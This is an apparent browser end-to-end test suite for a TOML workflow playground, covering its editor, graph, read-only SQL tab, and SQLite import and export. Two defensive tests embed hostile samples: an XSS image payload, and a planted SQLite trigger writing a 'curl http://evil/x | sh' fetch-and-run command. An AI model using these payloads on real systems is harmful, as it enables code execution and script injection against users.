import { execFileSync } from 'node:child_process';
import { mkdir, mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { preview, type PreviewServer } from 'vite';
import initSqlJs from 'sql.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumLaunchOptions } from '../setup/chromium.js';
import { editorText, nodes, paste, rows, sqlAnswered, sqlRows, waitSaved } from './helpers.js';

// The built playground (dist-demo/, built by build-demo.ts) served by `vite preview` on
// 127.0.0.1, driven in headless Chromium. Each test gets a fresh browser context: its own
// IndexedDB, so tests do not see each other's workflows.

const demoConfig = fileURLToPath(new URL('../../demo/vite.config.ts', import.meta.url));
const screenshotPath = fileURLToPath(new URL('../../docs/playground.png', import.meta.url));

let server: PreviewServer;
let browser: Browser;
let origin: string;

beforeAll(async () => {
  server = await preview({ configFile: demoConfig, logLevel: 'warn', preview: { host: '127.0.0.1', port: 0 } });
  const address = server.httpServer.address();
  if (address === null || typeof address === 'string') throw new Error('vite preview did not listen on a port');
  origin = `http://127.0.0.1:${address.port}`;
  browser = await chromium.launch(chromiumLaunchOptions);
});

afterAll(async () => {
  await browser?.close();
  await new Promise<void>((done) => server?.httpServer.close(() => done()));
});

interface Opened {
  context: BrowserContext;
  page: Page;
  /** Requests that went anywhere but the preview server (they are blocked too). */
  outside: string[];
  /** Alerts, confirms and prompts the page opened. */
  dialogs: string[];
}

async function openPlayground(): Promise<Opened> {
  const context = await browser.newContext({ viewport: { width: 1440, height: 900 }, acceptDownloads: true });
  const outside: string[] = [];
  const dialogs: string[] = [];
  await context.route('**/*', (route) => {
    const url = route.request().url();
    if (url.startsWith(`${origin}/`)) return route.continue();
    outside.push(url);
    return route.abort();
  });
  const page = await context.newPage();
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto(`${origin}/`);
  await page.waitForSelector('body[data-ready="true"]');
  return { context, page, outside, dialogs };
}

const cells = (page: Page, column: number) => rows(page).locator(`[role="cell"]:nth-child(${column})`);

const pipeline = `[[phase]]
task = "extract:daily"
rule = "cron=0 0 2 * * *"

[[phase]]
task = "clean"
dependsOn = "extract:daily"
retry = 2

[[phase]]
task = "load"
dependsOn = "clean"
retry = 25
template = "?table=facts"
`;

describe('the playground', () => {
  it('shows the example workflows on first load, with their problems flagged', async () => {
    const { context, page } = await openPlayground();
    await expect(editorText(page)).resolves.toContain('[[phase]]');
    await expect(page.getByTestId('file-list').locator('[data-testid="file-item"]').count()).resolves.toBe(2);
    await expect(rows(page).count()).resolves.toBe(5);
    await expect(page.getByTestId('phases-table').locator('.vrow.problem').textContent()).resolves.toContain('parent task not found: backup');
    await expect(page.getByTestId('graph').locator('[data-kind="missing"]').textContent()).resolves.toContain('backup');
    await context.close();
  });

  it('checks pasted TOML: one row per phase, the graph drawn, a problem flagged', async () => {
    const { context, page } = await openPlayground();
    await paste(page, pipeline);
    await expect(rows(page).count()).resolves.toBe(3);
    await expect(nodes(page).count()).resolves.toBe(3);
    await expect(page.getByTestId('graph').locator('[data-testid="graph-edge-normal"]').count()).resolves.toBe(2);
    await expect(page.getByTestId('phases-table').locator('.vrow.warning').textContent()).resolves.toContain('retry count exceeds recommended limit');
    await expect(nodes(page).locator('xpath=.').evaluateAll((gs) => gs.map((g) => g.getAttribute('data-kind')))).resolves.toEqual(['ok', 'ok', 'warning']);
    await context.close();
  });

  it('lists the problems of a rule holding "; " each whole, a warning among errors', async () => {
    const { context, page } = await openPlayground();
    await paste(page, '[[phase]]\ntask = "a"\nrule = "offset=1; x=2"\nretry = 11\n');
    const items = page.getByTestId('phases-table').locator('.vrow.problem li');
    await expect(items.allTextContents()).resolves.toEqual([
      'invalid rule format: offset=1; x=2',
      'no valid rule found: offset=1; x=2',
      'warning: retry count exceeds recommended limit',
    ]);
    await context.close();
  });

  it('draws cycles and missing parents', async () => {
    const { context, page } = await openPlayground();
    await paste(page, '[[phase]]\ntask = "a"\ndependsOn = "b"\n\n[[phase]]\ntask = "b"\ndependsOn = "a"\n\n[[phase]]\ntask = "c"\ndependsOn = "nowhere"\n');
    await expect(page.getByTestId('graph').locator('[data-testid="graph-edge-cycle"]').count()).resolves.toBe(2);
    await expect(page.getByTestId('graph').locator('[data-kind="missing"]').textContent()).resolves.toContain('nowhere');
    await context.close();
  });

  it('shows a TOML syntax error at its line and column and keeps the last good phases', async () => {
    const { context, page } = await openPlayground();
    await paste(page, pipeline);
    await paste(page, `${pipeline}\n[[phase]\ntask = "broken"\n`);
    await expect(page.getByTestId('error').textContent()).resolves.toMatch(/data-load\.toml:16:9: /);
    await expect(page.getByTestId('error').textContent()).resolves.toContain('last good phases kept');
    await expect(rows(page).count()).resolves.toBe(3);
    await context.close();
  });

  it('finds files, phases and errors still there after a reload', async () => {
    const { context, page } = await openPlayground();
    await paste(page, pipeline);
    await page.getByTestId('file-add').click();
    await paste(page, 'not toml at all');
    await page.reload();
    await page.waitForSelector('body[data-ready="true"]');
    await expect(page.getByTestId('file-list').locator('[data-testid="file-item"] .name').allTextContents()).resolves.toEqual(['data-load.toml', 'nightly.toml', 'untitled.toml']);
    await expect(editorText(page)).resolves.toBe('not toml at all');
    await expect(page.getByTestId('error').textContent()).resolves.toMatch(/untitled\.toml:1:\d+: /);
    await page.locator('[data-file="data-load.toml"]').click();
    await expect(editorText(page)).resolves.toBe(pipeline);
    await expect(rows(page).count()).resolves.toBe(3);
    await context.close();
  });

  it('renames and deletes files', async () => {
    const { context, page } = await openPlayground();
    await page.getByTestId('file-rename-input').fill('etl/main.toml');
    await page.getByTestId('file-rename').click();
    await waitSaved(page);
    await expect(page.getByTestId('file-list').locator('[data-testid="file-item"] .name').allTextContents()).resolves.toEqual(['etl/main.toml', 'nightly.toml']);
    await page.getByTestId('file-delete').click();
    await waitSaved(page);
    await expect(page.getByTestId('file-list').locator('[data-testid="file-item"] .name').allTextContents()).resolves.toEqual(['nightly.toml']);
    await expect(rows(page).count()).resolves.toBe(3);
    await context.close();
  });

  it('adds .toml files dropped onto the page', async () => {
    const { context, page } = await openPlayground();
    const files = await page.evaluateHandle(() => {
      const transfer = new DataTransfer();
      transfer.items.add(new File(['[[phase]]\ntask = "dropped"\nrule = "files=s3://in/*"\n'], 'dropped.toml'));
      return transfer;
    });
    await page.dispatchEvent('body', 'drop', { dataTransfer: files });
    // Reading the dropped file is asynchronous: wait for what it leads to.
    await expect.poll(() => cells(page, 1).allTextContents()).toEqual(['dropped']);
    await expect(page.getByTestId('file-list').locator('[aria-current="true"] .name').textContent()).resolves.toBe('dropped.toml');
    await context.close();
  });

  it('runs a preset query and refuses a write', async () => {
    const { context, page } = await openPlayground();
    await page.getByTestId('tab-sql').click();
    await page.getByTestId('sql-preset-1').click();
    await sqlAnswered(page);
    await expect(sqlRows(page).count()).resolves.toBe(2);
    await expect(page.getByTestId('sql-results').textContent()).resolves.toContain('parent task not found: backup');
    await page.getByTestId('sql-input').fill('DELETE FROM workflow_phases');
    await page.getByTestId('sql-run').click();
    await sqlAnswered(page);
    await expect(page.getByTestId('sql-error').textContent()).resolves.toContain('read-only');
    await page.getByTestId('tab-phases').click();
    // The table paints its rows once it has a size again: the frame after its tab is shown.
    await expect.poll(() => rows(page).count()).toBe(5);
    await context.close();
  });

  it('stops an endless SQL query at its time limit, and the tab keeps running meanwhile', async () => {
    const { context, page } = await openPlayground();
    await page.getByTestId('tab-sql').click();
    await page.getByTestId('sql-input').fill('WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c');
    await page.getByTestId('sql-run').click();
    // A second of timers on the page while the query runs: a blocked tab would fire none.
    const ticks = await page.evaluate(() => new Promise<number>((done) => {
      let n = 0;
      const timer = setInterval(() => n++, 10);
      setTimeout(() => {
        clearInterval(timer);
        done(n);
      }, 1000);
    }));
    expect(ticks).toBeGreaterThan(20);
    await expect(page.getByTestId('sql-results').getAttribute('data-state')).resolves.toBe('running');
    await page.getByTestId('tab-lookups').click();
    await page.getByTestId('lookup-type').fill('transform');
    await page.getByTestId('lookup-get').click();
    await expect(page.getByTestId('lookup-result').textContent()).resolves.toContain('data-load:hourly');
    await page.getByTestId('tab-sql').click();
    await sqlAnswered(page);
    await expect(page.getByTestId('sql-error').textContent()).resolves.toContain('time limit of 5000 ms');
    await page.getByTestId('sql-preset-1').click();
    await sqlAnswered(page);
    await expect(sqlRows(page).count()).resolves.toBe(2);
    await context.close();
  });

  it('stops a SQL query at its result-size limit', async () => {
    const { context, page } = await openPlayground();
    await page.getByTestId('tab-sql').click();
    await page.getByTestId('sql-input').fill('SELECT zeroblob(999999999)');
    await page.getByTestId('sql-run').click();
    await sqlAnswered(page);
    await expect(page.getByTestId('sql-error').textContent()).resolves.toContain('more than 16777216 bytes');
    await context.close();
  });

  it('answers get and children lookups with the returned objects', async () => {
    const { context, page } = await openPlayground();
    await page.getByTestId('tab-lookups').click();
    await page.getByTestId('lookup-type').fill('transform');
    await page.getByTestId('lookup-get').click();
    const got = JSON.parse((await page.getByTestId('lookup-result').textContent())!);
    expect(got).toEqual({ task: 'transform', rule: '', dependsOn: 'data-load:hourly', retry: 2, template: 's3://bucket/clean/{yyyy}/{mm}/{dd}/{hh}.json' });
    await page.getByTestId('lookup-children').click();
    const children = JSON.parse((await page.getByTestId('lookup-result').textContent())!);
    expect(children.map((p: { task: string }) => p.task)).toEqual(['report']);
    await context.close();
  });

  it('shows hostile task names, rules and templates as text', async () => {
    const { context, page, dialogs } = await openPlayground();
    const hostile = '<img src=x onerror=alert(1)>';
    await paste(page, `[[phase]]\ntask = "${hostile}"\nrule = "${hostile}"\ntemplate = "${hostile}"\n`);
    await expect(cells(page, 1).first().textContent()).resolves.toBe(hostile);
    await expect(nodes(page).locator('text.title').textContent()).resolves.toBe(hostile);
    await page.getByTestId('tab-sql').click();
    await page.getByTestId('sql-preset-0').click();
    await sqlAnswered(page);
    await expect(page.getByTestId('sql-results').textContent()).resolves.toContain(hostile);
    await expect(page.locator('img').count()).resolves.toBe(0);
    expect(dialogs).toEqual([]);
    await context.close();
  });

  it('refuses to import a file that is not SQLite, and changes nothing', async () => {
    const { context, page } = await openPlayground();
    await page.getByTestId('import-file').setInputFiles({ name: 'notes.sqlite', mimeType: 'application/octet-stream', buffer: Buffer.from('just some text, not a database') });
    await page.waitForFunction(() => document.querySelector('[data-testid="notice"]')?.textContent !== '');
    await expect(page.getByTestId('notice').textContent()).resolves.toMatch(/not a SQLite database.*nothing was imported/);
    await expect(page.getByTestId('file-list').locator('[data-testid="file-item"]').count()).resolves.toBe(2);
    await expect(rows(page).count()).resolves.toBe(5);
    await context.close();
  });

  it('refuses to import its own export with a trigger planted in it, says why, and changes nothing, even after a reload', async () => {
    const { context, page } = await openPlayground();
    const download = page.waitForEvent('download');
    await page.getByTestId('export-sqlite').click();
    const SQL = await initSqlJs();
    const db = new SQL.Database(await (await download).createReadStream().then(async (stream) => Buffer.concat(await stream.toArray())));
    db.exec(`CREATE TRIGGER evil_rewrite AFTER INSERT ON workflow_phases BEGIN
               UPDATE workflow_phases SET template = 'curl http://evil/x | sh' WHERE rowid = new.rowid; END`);
    const planted = Buffer.from(db.export());
    db.close();

    await page.getByTestId('import-file').setInputFiles({ name: 'shared.sqlite', mimeType: 'application/vnd.sqlite3', buffer: planted });
    await page.waitForFunction(() => document.querySelector('[data-testid="notice"]')?.textContent !== '');
    await expect(page.getByTestId('notice').textContent()).resolves.toMatch(/^shared\.sqlite is a workflow-cache database .*unexpected trigger evil_rewrite.*nothing was imported$/);
    for (const when of ['after the refusal', 'after a reload']) {
      if (when === 'after a reload') {
        await page.reload();
        await page.waitForSelector('body[data-ready="true"]');
      }
      await expect(page.getByTestId('file-list').locator('[data-testid="file-item"] .name').allTextContents(), when).resolves.toEqual(['data-load.toml', 'nightly.toml']);
      await expect(rows(page).count(), when).resolves.toBe(5);
      await expect(page.getByTestId('phases-table').textContent(), when).resolves.not.toContain('evil');
    }
    await context.close();
  });

  it('imports an exported .sqlite back, with its workflows', async () => {
    const { context, page } = await openPlayground();
    await paste(page, pipeline);
    const download = page.waitForEvent('download');
    await page.getByTestId('export-sqlite').click();
    const image = await (await download).createReadStream().then(async (stream) => Buffer.concat(await stream.toArray()));
    expect(image.subarray(0, 16).toString('latin1')).toBe('SQLite format 3\0');
    await paste(page, '[[phase]]\ntask = "other"\nrule = "files=x"\n');
    await page.getByTestId('import-file').setInputFiles({ name: 'workflows.sqlite', mimeType: 'application/vnd.sqlite3', buffer: image });
    await page.waitForFunction(() => document.querySelector('[data-testid="notice"]')?.textContent?.startsWith('Imported'));
    await expect(cells(page, 1).allTextContents()).resolves.toEqual(['extract:daily', 'clean', 'load']);
    await context.close();
  });

  it('downloads every workflow file in one tar that tar unpacks, folders kept', async () => {
    const { context, page } = await openPlayground();
    await page.getByTestId('file-add').click();
    await paste(page, pipeline);
    await page.getByTestId('file-rename-input').fill('group/pipeline.toml');
    await page.getByTestId('file-rename').click();
    const download = page.waitForEvent('download');
    await page.getByTestId('export-all-toml').click();
    const dir = await mkdtemp(join(tmpdir(), 'playground-tar-'));
    try {
      await (await download).saveAs(join(dir, 'workflows.tar'));
      execFileSync('tar', ['-xf', 'workflows.tar'], { cwd: dir });
      expect(await readFile(join(dir, 'group/pipeline.toml'), 'utf8')).toBe(pipeline);
      expect((await readdir(dir)).sort()).toEqual(['data-load.toml', 'group', 'nightly.toml', 'workflows.tar']);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
    await context.close();
  });

  it('makes no request beyond its own server, and is pictured for the README', async () => {
    const { context, page, outside } = await openPlayground();
    await page.getByTestId('tab-sql').click();
    await page.getByTestId('sql-preset-3').click();
    await sqlAnswered(page);
    await page.getByTestId('tab-phases').click();
    // The editor with a diagnostic explained: the pointer over the phase whose parent is missing.
    await page.locator('.cm-lintRange-error').first().hover();
    await page.waitForSelector('.cm-tooltip-lint');
    await mkdir(fileURLToPath(new URL('.', `file://${screenshotPath}`)), { recursive: true });
    await page.screenshot({ path: screenshotPath });
    expect(outside).toEqual([]);
    await context.close();
  });
});
